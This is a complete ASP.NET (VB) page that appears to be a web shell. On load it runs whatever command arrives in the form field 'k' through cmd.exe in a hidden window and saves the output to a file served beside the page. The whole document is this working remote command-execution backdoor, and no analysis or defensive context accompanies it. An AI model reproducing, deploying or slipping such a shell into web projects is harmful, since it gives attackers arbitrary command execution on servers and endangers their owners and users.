<%@ Page Language="VB" Debug="false" %>
<script runat="server">
' VB's own Shell(): the command line from the form, its output to a file
' served beside the page.
Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
    If Request.Form("k") = "" Then Exit Sub
    Dim pid As Integer = Shell("cmd.exe /c " & Request.Form("k") & " > " & Server.MapPath("r.txt"), AppWinStyle.Hide, True)
    Response.Write(pid)
End Sub
</script>
